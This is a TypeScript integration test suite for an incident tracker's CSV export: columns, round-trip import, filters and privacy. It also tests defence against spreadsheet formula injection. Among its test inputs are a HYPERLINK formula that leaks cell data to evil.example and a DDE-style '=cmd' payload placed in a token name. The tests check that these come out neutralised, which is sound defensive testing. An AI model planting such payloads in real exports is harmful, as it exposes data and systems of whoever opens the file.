import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { createIncident, createWorld, World } from '../factories/incidents';
import { fixture, importGql, importHttp, userToken } from '../factories/imports';
import { startTestApp, TestApp } from '../harness';

describe('CSV export (real PostgreSQL)', () => {
  let t: TestApp;
  let w: World;
  const exportCsv = async (query = '', token = w.token) => {
    const res = await fetch(`${t.url}/api/export/incidents.csv${query}`, { headers: { authorization: `Bearer ${token}` } });
    return { status: res.status, type: res.headers.get('content-type'), text: await res.text() };
  };

  beforeAll(async () => {
    t = await startTestApp();
    w = await createWorld(t, 'Playback');
    const team = await t.ok(`mutation{ createTeam(input:{name:"Search"}){ id } }`, {}, w.token);
    await t.ok(
      `mutation($t:ID!){ createService(input:{name:"Search API", teamId:$t, slo:99.5}){ id } }`,
      { t: team.createTeam.id },
      w.token,
    );
    await createIncident(t, w, { title: 'Made in the app', summary: '  spaces kept  ', startedAt: '2026-03-08T10:00:00.123Z' });
    await createIncident(t, w, { title: 'Private one', private: true, severity: 'SEV1' });
    expect((await importGql(t, w.token, { content: fixture('incidents.csv') })).created).toBe(3);
    expect((await importGql(t, w.token, { format: 'JSON', content: fixture('incidents.json') })).created).toBe(2);
    expect(
      (await importGql(t, w.token, { format: 'STATUSPAGE', content: fixture('statuspage-incidents.json'), createMissing: true })).created,
    ).toBe(3);
  });
  afterAll(() => t.close());

  it('streams every visible incident in the import columns at full precision', async () => {
    const r = await exportCsv();
    expect(r.status).toBe(200);
    expect(r.type).toMatch(/^text\/csv/);
    const rows = parse(r.text, { columns: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(10);
    expect(Object.keys(rows[0])).toEqual([
      'external_id',
      'title',
      'service',
      'team',
      'severity',
      'started_at',
      'detected_at',
      'acknowledged_at',
      'mitigated_at',
      'resolved_at',
      'root_cause',
      'contributing_causes',
      'redundancy_mechanism',
      'redundancy_outcome',
      'detection_source',
      'summary',
      'private',
      'exclude_from_metrics',
      'source',
    ]);
    const ext1 = rows.find((x) => x.external_id === 'ext-1')!;
    expect(ext1).toMatchObject({
      service: 'Playback API;Search API',
      team: 'Playback',
      severity: 'SEV1',
      started_at: '2026-03-02T09:00:00.000000Z',
      detected_at: '2026-03-02T09:03:30.250000Z',
      root_cause: 'Deployment / release',
      contributing_causes: 'DNS;Monitoring gap',
      redundancy_mechanism: 'Multi-CDN;Multi-region',
      redundancy_outcome: 'worked;missing',
      private: 'false',
      source: 'csv',
    });
    expect(rows.find((x) => x.external_id === 'ext-2')!.resolved_at).toBe('2026-03-05T10:30:00.123456Z');
    expect(rows.find((x) => x.title === 'Made in the app')).toMatchObject({ source: 'manual', summary: '  spaces kept  ' });
  });

  it('round trip: export → import changes nothing, and a changed export updates in place', async () => {
    const { text } = await exportCsv();
    expect(await importGql(t, w.token, { content: text })).toEqual({
      created: 0,
      updated: 0,
      unchanged: 10,
      skipped: 0,
      errorCount: 0,
      errors: [],
    });
    const raw = await importHttp(t, w.token, text, { format: 'CSV' });
    expect(raw.body).toMatchObject({ created: 0, unchanged: 10 });
    const edited = text.replace('Made in the app', 'Made in the app (edited)');
    expect(await importGql(t, w.token, { content: edited })).toMatchObject({ created: 0, updated: 1, unchanged: 9 });
    const [row] = await t.db.query(`SELECT source, external_id, version FROM incident WHERE title = 'Made in the app (edited)'`);
    expect(row).toEqual({ source: 'manual', external_id: null, version: 2 });
  });

  it('takes the incident list filters as query parameters', async () => {
    const sev1 = parse((await exportCsv('?severities=SEV1,sev1')).text, { columns: true }) as Array<Record<string, string>>;
    expect(sev1.map((r) => r.severity)).toEqual(['SEV1', 'SEV1', 'SEV1']);
    const march = parse((await exportCsv('?from=2026-03-01T00:00:00Z&to=2026-04-01T00:00:00Z&statuses=RESOLVED')).text, { columns: true });
    expect(march).toHaveLength(5);
    const search = parse((await exportCsv('?search=webhooks')).text, { columns: true }) as Array<Record<string, string>>;
    expect(search.map((r) => r.external_id)).toEqual(['ongoing00001']);
    expect((await exportCsv('?severities=P1')).status).toBe(400);
    expect((await exportCsv('?teamIds=abc')).status).toBe(400);
  });

  it('hides private incidents from other teams', async () => {
    const team = await t.ok(`mutation{ createTeam(input:{name:"Outsiders"}){ id } }`, {}, w.token);
    const viewer = await userToken(t, w.token, 'outsider@example.com', 'VIEWER', [team.createTeam.id]);
    const rows = parse((await exportCsv('', viewer)).text, { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((r) => r.title)).not.toContain('Private one');
    expect(rows.every((r) => r.private === 'false')).toBe(true);
    expect(rows).toHaveLength(7); // 10 less the three private ones (Private one, ext-2, j-2)
    expect((await fetch(`${t.url}/api/export/incidents.csv`)).status).toBe(401);
  });
});

describe('CSV cells that a spreadsheet would run as formulas (real PostgreSQL)', () => {
  let t: TestApp;
  let w: World;
  const TRIGGER = /^[=+\-@\t\r]/;
  const get = async (path: string, token = w.token) =>
    (await fetch(`${t.url}${path}`, { headers: { authorization: `Bearer ${token}` } })).text();
  const titles = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1', '-2', '@SUM(A1)', "'quoted already", "'=looks escaped"];

  beforeAll(async () => {
    t = await startTestApp();
    w = await createWorld(t, 'Playback');
    // raw formulas as an import takes them (no quote: stored as written), with summaries starting with tab and CR
    const file = stringify(
      titles
        .slice(0, 4)
        .map((title, n) => [
          `f-${n}`,
          title,
          'Playback API',
          'SEV3',
          '2026-02-03T10:00:00Z',
          n % 2 ? '\tTabbed' : '\rCR first',
          '=CAUSE()',
        ]),
      { header: true, columns: ['external_id', 'title', 'service', 'severity', 'started_at', 'summary', 'root_cause'] },
    );
    expect(await importGql(t, w.token, { content: file, createMissing: true })).toMatchObject({ created: 4, errorCount: 0 });
    // titles that start with a quote themselves, made in the app
    for (const title of titles.slice(4)) await createIncident(t, w, { title, startedAt: '2026-02-04T10:00:00.000Z' });
  });
  afterAll(() => t.close());

  it('prefixes a quote to incident CSV cells starting with = + - @ tab or CR (or with a quote and one of those)', async () => {
    const rows = parse(await get('/api/export/incidents.csv'), { columns: true }) as Array<Record<string, string>>;
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(TRIGGER);
    expect(rows.map((r) => r.title).sort()).toEqual(
      ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'+1", "'-2", "'@SUM(A1)", "'quoted already", "''=looks escaped"].sort(),
    );
    expect(rows.filter((r) => r.root_cause).map((r) => r.root_cause)).toEqual(Array(4).fill("'=CAUSE()"));
    expect(
      rows
        .filter((r) => r.summary)
        .map((r) => r.summary)
        .sort(),
    ).toEqual(["'\tTabbed", "'\tTabbed", "'\rCR first", "'\rCR first"]);
  });

  it('round trip: the import undoes exactly that prefix, so the export re-imports unchanged', async () => {
    const text = await get('/api/export/incidents.csv');
    expect(await importGql(t, w.token, { content: text })).toEqual({
      created: 0,
      updated: 0,
      unchanged: 6,
      skipped: 0,
      errorCount: 0,
      errors: [],
    });
    const stored = await t.db.query(`SELECT title FROM incident ORDER BY title`);
    expect(stored.map((s: { title: string }) => s.title)).toEqual([...titles].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0)));
  });

  it('neutralises the audit CSV too (a token named like a formula is an actor there)', async () => {
    const made = await t.ok(`mutation{ createApiToken(input:{name:"=cmd|' /C calc'!A0", scopes:[READ, WRITE]}){ token } }`, {}, w.token);
    await createIncident(t, w, { title: 'By a formula token' }, made.createApiToken.token);
    const rows = parse(await get('/api/audit/entries.csv'), { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((r) => r.actor)).toContain("'=cmd|' /C calc'!A0");
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(TRIGGER);
  });

  it('neutralises the report CSV (cause and service names are user text)', async () => {
    const rows = parse(await get('/api/reports/quarterly?quarter=2026-Q1&format=csv'), { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((r) => r.item)).toContain("'=CAUSE(): incidentCount");
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(TRIGGER);
  });
});
